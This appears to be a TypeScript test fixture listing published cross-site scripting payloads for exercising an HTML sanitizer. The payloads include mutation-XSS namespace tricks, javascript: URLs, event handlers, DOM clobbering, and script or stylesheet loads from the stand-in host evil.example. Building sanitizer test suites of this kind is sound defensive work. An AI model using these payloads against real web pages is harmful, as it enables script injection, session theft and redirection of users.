/** Published attacks, including mutation XSS. */
export const hostileHtml: readonly string[] = String.raw`
<script>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src=x/onerror=alert(1)>
<img src="x" ONERROR="alert(1)">
<img src=x:alert(alt) onerror=eval(src) alt=x>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>
<math><a xlink:href="javascript:alert(1)">x</a></math>
<math href="javascript:alert(1)">x</math>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="&#x6A;avascript&colon;alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="blob:https://tweeklank.example/x">x</a>
<a href="filesystem:https://tweeklank.example/x">x</a>
<a href="view-source:https://tweeklank.example">x</a>
<a href="/visit" onclick="alert(1)" onmouseover=alert(1) style="position:fixed;inset:0">x</a>
<a href="/visit" target="_top" ping="//evil.example" download>x</a>
<a href="\\evil.example">x</a>
<a href="/\evil.example">x</a>
<a href="/.//evil.example">x</a>
<form action="javascript:alert(1)"><button>x</button></form>
<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>
<input autofocus onfocus=alert(1)>
<isindex action="javascript:alert(1)" type=image>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<applet code=x></applet>
<base href="javascript:alert(1)//">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel=stylesheet href="//evil.example/x.css">
<style>@import "//evil.example/x.css"; *{background:url(javascript:alert(1))}</style>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<table background="javascript:alert(1)"><td background="javascript:alert(1)">x
<video src=x onerror=alert(1)></video>
<video><source onerror="alert(1)"></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<select autofocus onfocus=alert(1)></select>
<keygen autofocus onfocus=alert(1)>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<img srcset="x, javascript:alert(1) 2x">
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img name=getElementById><img name=currentScript>
<a id=defaultView name=location href=//evil.example>x</a><a id=defaultView>y</a>
<form id=attributes><input name=nodeName></form>
<p id="__proto__" class="constructor" name="cookie">x</p>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea><p title="</textarea><img src=x onerror=alert(1)>">
<title><p title="</title><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<noframes><p title="</noframes><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<template><img src=x onerror=alert(1)></template>
<template><script>alert(1)</script></template>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><style><img title="</style><img src onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mi><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>--></style>
<svg><desc><template><p title="</template></desc></svg><img src=x onerror=alert(1)>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<svg><title><style><!--</style><img title="--><img src=x onerror=alert(1)>"></title></svg>
<p><svg><style><p title="</style><iframe onload=alert(1)>"></p></svg>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>"></a></select>
<select><iframe><select><img src=x onerror=alert(1)></select></iframe></select>
<table><td><form><table><td><form><math><mi><img src=x onerror=alert(1)>
<a><table><a href="javascript:alert(1)">x</a></table></a>
<b><i><p></b></i><img src=x onerror=alert(1)>
<image src=x onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]>&y;
<p title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>
<p title='"><img src=x onerror=alert(1)>'>x</p>
<p title=${'`'}${'`'}onmouseover=alert(1)>x</p>
<p lang="x&quot; onclick=&quot;alert(1)">x</p>
<code class="language-js&quot; onclick=&quot;alert(1)">x</code>
<td data-align="left" onclick=alert(1) style=text-align:left>x</td>
<a href="mailto:a@b.example?subject=&quot; onclick=&quot;alert(1)">x</a>
<x-y onclick=alert(1) is=script>x</x-y>
<p is="x-script" contenteditable onbeforeinput=alert(1) nonce=x slot=y part=z>x</p>
<p popovertarget=x id=x popover onbeforetoggle=alert(1)>x</p>
<style></style><style>*{animation:x}@keyframes x{}</style><p onanimationstart=alert(1)>x</p>
<p><a href="https://evil.example/%22onclick=alert(1)">x</a></p>
<a href="http://evil.example\@tweeklank.example/">x</a>
<a href="https://tweeklank.example:443@evil.example/">x</a>
<p>‮<a href="//evil.example">x</a></p>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<button onclick=alert(1) formaction=javascript:alert(1)>x</button>
<ol type="1&quot; onclick=&quot;alert(1)" start="javascript:1"><li value=x>x</li></ol>
<time datetime="x&quot;><img src=x onerror=alert(1)>">x</time>
<abbr title="<!--"><img src=x onerror=alert(1)><!--">x</abbr>
`
  .trim()
  .split('\n');
